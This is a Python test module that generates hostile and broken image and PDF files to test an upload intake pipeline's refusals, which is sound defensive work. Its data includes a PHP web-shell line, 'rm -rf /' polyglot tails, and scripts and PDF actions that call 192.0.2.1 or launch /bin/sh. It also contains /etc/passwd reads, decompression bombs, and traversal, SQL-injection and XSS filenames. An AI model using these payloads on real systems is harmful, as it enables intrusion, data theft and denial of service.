"""Some twenty kinds of hostile or broken files, each in many forms, made on the spot and the same for every seed.

``every_kind(seed)`` gives ``(kind, name, bytes)``; ``name`` is what the uploader calls the file. Building blocks are
those of ``tests/intake/hostile.py``, which holds a smaller set with the exact refusals expected.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator
from random import Random

import numpy as np
from PIL import Image

from tests.intake.hostile import encrypted, many_pages, one_page, page, pdf, png, png_chunk, saved, stream, zeros

File = tuple[str, bytes]
SIZES = ((65_535, 65_535), (30_001, 100), (100, 30_001), (20_000, 20_000), (12_000, 9_000), (2**31 - 1, 2**31 - 1))


def good() -> dict[str, bytes]:
    """One readable file of every accepted format."""
    files = {form.lower(): saved(page(), form) for form in ("PNG", "JPEG", "WEBP", "TIFF", "PDF")}
    import pillow_heif

    pillow_heif.register_heif_opener()
    return {**files, "heif": saved(page(), "HEIF")}


def codec_bombs(_: Random) -> Iterator[File]:
    for width, height in ((9000, 9000), (9900, 10000), (29_000, 3_000)):
        for depth, colour, channels in ((8, 2, 3), (8, 0, 1), (8, 6, 4)):
            rows = zeros((width * channels + 1) * height)
            yield f"png-{width}x{height}-{depth}-{colour}", png(width, height, rows, depth, colour)
    for side in (6000, 9500):
        for form in ("JPEG", "WEBP", "TIFF"):
            how = {"compression": "tiff_deflate"} if form == "TIFF" else {"quality": 1}
            how |= {"method": 0} if form == "WEBP" else {}  # the hasty one; what it costs to open is the same
            yield f"{form}-{side}", saved(Image.new("L", (side, side)).convert("RGB"), form, **how)


def huge_dimensions(_: Random) -> Iterator[File]:
    for width, height in SIZES:
        yield f"png-{width}x{height}", png(width & 0x7FFFFFFF, height & 0x7FFFFFFF, zlib.compress(bytes(2000)))
        jpeg = bytearray(saved(page(), "JPEG"))
        at = jpeg.index(b"\xff\xc0")
        jpeg[at + 5 : at + 9] = struct.pack(">HH", min(height, 65_535), min(width, 65_535))
        yield f"jpeg-{width}x{height}", bytes(jpeg)
        yield f"tiff-{width}x{height}", tiff_of(width, height)


def tiff_of(width: int, height: int, *, strip: int = 3600, compression: int = 1, loop: bool = False) -> bytes:
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, compression), (262, 3, 1, 1)]
    entries += [(273, 4, 1, 200), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, strip)]
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    ring = struct.pack("<I", 8 if loop else 0)
    return (b"II*\x00" + struct.pack("<I", 8) + body + ring).ljust(200, b"\x00") + bytes(min(strip, 100_000))


def zero_dimensions(_: Random) -> Iterator[File]:
    for width, height in ((0, 0), (0, 500), (500, 0), (1, 1), (1, 9000), (9000, 1)):
        yield f"png-{width}x{height}", png(width, height, zlib.compress(bytes((3 * width + 1) * height)))
        yield f"tiff-{width}x{height}", tiff_of(width, height)
    for box in (b"[0 0 0 0]", b"[0 0 0 800]", b"[10 10 -10 -10]", b"[0 0 1e30 1e30]", b"[0 0 nan nan]", b"[]"):
        yield f"pdf-box-{box.decode()}", pdf(one_page(b"", box=box))


def truncations(_: Random) -> Iterator[File]:
    for form, whole in good().items():
        for share in (0.01, 0.1, 0.4, 0.8, 0.99):
            yield f"{form}-cut-at-{share}", whole[: int(len(whole) * share)]


def wrong_bytes(chance: Random) -> Iterator[File]:
    for form, whole in good().items():
        for number in range(8):
            broken = bytearray(whole)
            for _ in range(1 << (number % 8)):
                broken[chance.randrange(8, len(broken))] = chance.randrange(256)
            yield f"{form}-{1 << (number % 8)}-wrong-{number}", bytes(broken)


def wrong_extensions(_: Random) -> Iterator[File]:
    for (form, whole), ending in zip(good().items(), ("pdf", "exe", "svg", "docx", "html", "txt"), strict=True):
        yield f"{form}.{ending}", whole


def disguises(_: Random) -> Iterator[File]:
    heads = {
        "a.jpg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "b.png": b"\xef\xbb\xbf<!DOCTYPE html><script>fetch('http://192.0.2.1')</script>",
        "c.pdf": b"<?php system($_GET[0]); ?>",
        "d.heic": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + bytes(200),
        "e.tiff": b"\x7fELF" + bytes(300),
        "f.jpg": b"MZ\x90\x00" + bytes(300),
        "g.pdf": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
        "h.png": b"GIF89a" + bytes(60),
        "i.jpg": b"%FDF-1.2\n<</F(http://192.0.2.1)>>",
        "j.jpg": b'<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>',
        "k.jpg": b"\xff\xd8\xff" + b"<script>alert(1)</script>" * 10,
        "l.png": b"\x89PNG\r\n\x1a\n" + b"IEND",
        "m.webp": b"RIFF\xff\xff\xff\xffWEBP" + bytes(100),
        "n.heic": struct.pack(">I", 2**31) + b"ftypheic" + bytes(200),
    }
    yield from heads.items()


def polyglots(_: Random) -> Iterator[File]:
    tails = (b"PK\x03\x04" + bytes(400), b"<script>alert(1)</script>", b"%PDF-1.7\n%%EOF", b"#!/bin/sh\nrm -rf /\n")
    for form, whole in good().items():
        for number, tail in enumerate(tails):
            yield f"{form}-then-{number}", whole + tail
        yield f"script-then-{form}", b"#!/bin/sh\n" + whole


def malformed_exif(chance: Random) -> Iterator[File]:
    jpeg = good()["jpeg"]
    for number in range(12):
        body = b"Exif\x00\x00" + bytes(chance.randrange(256) for _ in range(chance.randrange(8, 400)))
        yield f"noise-{number}", jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + jpeg[2:]
    for value in (0, 9, 99, 65_535):
        tag = struct.pack(">HHIHH", 0x0112, 3, 1, value, 0)
        body = b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x01" + tag
        yield f"orientation-{value}", jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + jpeg[2:]


def metadata_bombs(_: Random) -> Iterator[File]:
    whole = good()["png"]
    for kind, prefix in ((b"zTXt", b"x\0\0"), (b"iCCP", b"x\0\0"), (b"iTXt", b"x\0\1\0\0\0")):
        for size in (1_000_000, 60_000_000):
            chunk = png_chunk(kind, prefix + zeros(size))
            yield f"{kind.decode()}-{size}", whole[:33] + chunk + whole[33:]
    yield "ten-thousand-chunks", whole[:33] + png_chunk(b"tEXt", b"a\0b") * 10_000 + whole[33:]
    jpeg = good()["jpeg"]
    yield "jpeg-comments", jpeg[:2] + (b"\xff\xfe\xff\xff" + bytes(65_533)) * 200 + jpeg[2:]


def many_frames(_: Random) -> Iterator[File]:
    for count in (2, 61, 400):
        frames = [Image.new("RGB", (40, 40), (i % 256, 0, 0)) for i in range(count)]
        for form in ("PNG", "WEBP", "TIFF"):
            yield f"{form}-{count}", saved(frames[0], form, save_all=True, append_images=frames[1:])


def odd_colours(_: Random) -> Iterator[File]:
    for mode in ("1", "L", "P", "LA", "RGBA", "I;16", "CMYK", "YCbCr", "LAB", "I", "F"):
        picture = Image.new("I", (300, 200), 9000) if mode == "I;16" else page(300, 200)
        converted = picture.convert("RGB").convert("L").convert(mode) if mode in ("I", "F") else None
        try:
            yield f"tiff-{mode}", saved(converted or picture.convert(mode), "TIFF")
        except (ValueError, OSError):
            continue
    yield "cmyk-jpeg", saved(page().convert("CMYK"), "JPEG")
    yield "float-extremes", saved(Image.fromarray(np.full((200, 300), np.nan, "f4")), "TIFF")
    spaces = (b"/Lab", b"[/ICCBased 9 0 R]", b"[/Separation/All/DeviceCMYK 9 0 R]", b"[/Indexed/DeviceRGB 999 <00>]")
    for space in spaces:
        head = b"/Type/XObject/Subtype/Image/Width 4/Height 4/BitsPerComponent 8/ColorSpace%s" % space
        draws = one_page(b"200 0 0 100 10 10 cm /I Do", b"<</XObject<</I 5 0 R>>>>")
        yield f"pdf-{space.decode()}", pdf([*draws, stream(bytes(64), head)])


def pdf_bombs(_: Random) -> Iterator[File]:
    for times in (100_000, 3_000_000):
        for word in (b"0 0 m 1 1 l S\n", b"q ", b"BT ET\n", b"/F Do\n", b"[" * 4):
            packed = zlib.compress(word * times, 9)
            yield f"{word[:5]!r}-{times}", pdf([*one_page(b"")[:3], stream(packed, b"/Filter/FlateDecode")])
    twice = zlib.compress(zlib.compress(b"0 0 m 1 1 l S\n" * 5_000_000, 9), 9)
    yield "packed-twice", pdf([*one_page(b"")[:3], stream(twice, b"/Filter[/FlateDecode/FlateDecode]")])
    head = b"/Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    packed = zeros(50_000_000)
    image = stream(packed, head + b"/Filter/FlateDecode")
    yield "image-900-megapixels", pdf([*one_page(b"300 0 0 200 0 0 cm /I Do", b"<</XObject<</I 5 0 R>>>>"), image])


def pdf_pages(_: Random) -> Iterator[File]:
    for count in (61, 500, 5000):
        yield f"{count}-pages", many_pages(count)
    for claimed in (-1, 0, 999_999_999, 2**40):
        root = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % claimed]
        yield f"claims-{claimed}", pdf([*root, *one_page(b"")[2:]])
    yield "ring", pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 3>>"])
    yield "no-kids", pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1>>"])
    yield "no-catalogue", pdf([b"<</Type/Nothing>>"])
    deep = [b"<</Type/Catalog/Pages 2 0 R>>"]
    deep += [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (i + 3) for i in range(3000)]
    yield "three-thousand-deep", pdf([*deep, b"<</Type/Page/MediaBox[0 0 100 100]>>"])


def pdf_objects(_: Random) -> Iterator[File]:
    for depth in (1000, 50_000):
        yield f"arrays-{depth}", pdf([*one_page(b""), b"[" * depth + b"]" * depth])
        yield f"dictionaries-{depth}", pdf([*one_page(b""), b"<</A" * depth + b">>" * depth])
    yield "hundred-thousand-objects", pdf([*one_page(b""), *[b"null"] * 100_000])
    yield "long-name", pdf([*one_page(b""), b"/" + b"A" * 1_000_000])
    yield "long-string", pdf([*one_page(b""), b"(" * 100_000])
    for length in (-1, 2**31, 2**63):
        body = b"<</Length %d>>\nstream\nq Q\nendstream" % length
        yield f"length-{length}", pdf([*one_page(b"")[:3], body])
    yield "self-length", pdf([*one_page(b"")[:3], b"<</Length 4 0 R>>\nstream\nq Q\nendstream"])


def pdf_loops(_: Random) -> Iterator[File]:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Resources<</XObject<</F 5 0 R>>>>"
    draws = one_page(b"/F Do", b"<</XObject<</F 5 0 R>>>>")
    for times in (1, 2, 40):
        yield f"form-draws-itself-{times}", pdf([*draws, stream(b"/F Do " * times, form)])
    yield "parent-ring", pdf(one_page(b"")).replace(b"/Parent 2 0 R", b"/Parent 3 0 R")
    yield (
        "outlines",
        pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>",
                *one_page(b"")[1:],
                b"<</First 6 0 R/Last 6 0 R>>",
                b"<</Title(a)/Parent 5 0 R/Next 6 0 R>>",
            ]
        ),
    )
    whole = pdf(one_page(b""))
    at = whole.rindex(b"startxref") + 10
    start = int(whole[at : whole.index(b"\n", at)])
    yield "xref-of-itself", pdf(one_page(b""), b"/Prev %d" % start)
    yield "font-of-itself", pdf([*one_page(b"BT /F 9 Tf (a) Tj ET", b"<</Font<</F 5 0 R>>>>"), b"<</Type/Font/DescendantFonts[5 0 R]/Subtype/Type0>>"])  # fmt: skip  # noqa: E501


def pdf_actions(_: Random) -> Iterator[File]:
    actions = {
        "script": b"/S/JavaScript/JS(app.alert\\(1\\);while\\(1\\);)",
        "launch": b"/S/Launch/F(/bin/sh)",
        "uri": b"/S/URI/URI(http://192.0.2.1/)",
        "submit": b"/S/SubmitForm/F(http://192.0.2.1/)",
        "remote": b"/S/GoToR/F(\\\\\\\\192.0.2.1\\\\share\\\\a.pdf)/D[0/Fit]",
        "import": b"/S/ImportData/F(/etc/passwd)",
        "ring": b"/S/Named/N/NextPage/Next 5 0 R",
    }
    for name, action in actions.items():
        for where in (b"/OpenAction<<%s>>", b"/AA<</WC<<%s>>>>"):
            root = b"<</Type/Catalog/Pages 2 0 R%s>>" % (where % action)
            yield f"{name}-{where[1:5].decode()}", pdf([root, *one_page(b"")[1:]])


def pdf_attachments(_: Random) -> Iterator[File]:
    names = (b"a.exe", b"../../../../etc/cron.d/x", b"CON", b"a\\000b.pdf", b"x" * 5000)
    for number, name in enumerate(names):
        root = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(%s)5 0 R]>>>>>>" % name
        spec = b"<</Type/Filespec/F(%s)/EF<</F 6 0 R>>>>" % name
        body = stream(zlib.compress(b"MZ" + bytes(2_000_000), 9), b"/Type/EmbeddedFile/Filter/FlateDecode")
        yield f"attached-{number}", pdf([root, *one_page(b"")[1:], spec, body])
    note = b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)>>>>"
    yield "annotated", pdf([*one_page(b""), note]).replace(b"/Contents 4 0 R", b"/Contents 4 0 R/Annots[5 0 R]")


def encryptions(_: Random) -> Iterator[File]:
    whole = encrypted()
    yield "password", whole
    for word in (b"/V 4", b"/V 99", b"/V 5/R 6", b"/Filter/Unknown", b"/Length 1", b"/R -3"):
        yield f"handler-{word.decode()}", pdf(one_page(b""), b"/Encrypt<<%s/O(a)/U(b)/P -4>>" % word)


def pdf_contents(chance: Random) -> Iterator[File]:
    for depth in (1000, 200_000):
        yield f"nested-{depth}", pdf(one_page(b"q " * depth))
    yield "strokes", pdf(one_page(b"0 0 m 300 200 l S\n" * 500_000))
    yield "far-away", pdf(one_page(b"1e38 0 0 1e38 1e38 1e38 cm 0 0 m 1e38 1e38 l 1e30 w S"))
    yield "dashes", pdf(one_page(b"[0.0001] 0 d 0 0 m 300 200 l S " * 200))
    yield "unknown-words", pdf(one_page(b"foo bar 1 2 3 baz " * 20_000))
    yield "inline-image", pdf(one_page(b"BI /W 60000 /H 60000 /BPC 8 /CS /RGB ID x EI"))
    yield (
        "shading",
        pdf(one_page(b"/S sh", b"<</Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 5 0 R>>>>>>")),
    )
    for number in range(6):
        noise = bytes(chance.randrange(256) for _ in range(3000))
        yield f"noise-{number}", pdf(one_page(noise))
    for kind in (b"Type1", b"TrueType", b"Type3", b"Type0"):
        font = b"<</Type/Font/Subtype/%s/BaseFont/X/FontDescriptor<</FontFile2 5 0 R>>>>" % kind
        objects = one_page(b"BT /F 9 Tf 50 50 Td (hello) Tj ET", b"<</Font<</F %s>>>>" % font)
        yield f"font-{kind.decode()}", pdf([*objects, stream(bytes(chance.randrange(256) for _ in range(2000)))])


def tiff_structures(_: Random) -> Iterator[File]:
    yield "chases-its-tail", tiff_of(60, 60, loop=True)
    for compression in (2, 3, 4, 5, 6, 7, 8, 32773, 34661, 50000, 65535):
        yield f"compression-{compression}", tiff_of(200, 200, strip=40_000, compression=compression)
    yield "strip-far-away", tiff_of(200, 200, strip=2**31)


def odd_names(_: Random) -> Iterator[File]:
    whole = good()["png"]
    names = ("../../etc/passwd", "a\x00b.png", "\u202egnp.exe", "CON", "a" * 4000, "a\r\nX-Evil: 1", "\x1b[2J.png")
    for name in (*names, "", ".", "..", "C:\\x\\y.png", "'; DROP TABLE evidence;--", "<img src=x onerror=alert(1)>"):
        yield name, whole


KINDS: tuple[Callable[[Random], Iterator[File]], ...] = (
    *(codec_bombs, huge_dimensions, zero_dimensions, truncations, wrong_bytes, wrong_extensions, disguises),
    *(polyglots, malformed_exif, metadata_bombs, many_frames, odd_colours, pdf_bombs, pdf_pages, pdf_objects),
    *(pdf_loops, pdf_actions, pdf_attachments, encryptions, pdf_contents, tiff_structures, odd_names),
)


def every_kind(seed: int = 1) -> Iterator[tuple[str, str, bytes]]:
    for make in KINDS:
        for name, data in make(Random(f"{seed}-{make.__name__}")):
            yield make.__name__, name, data
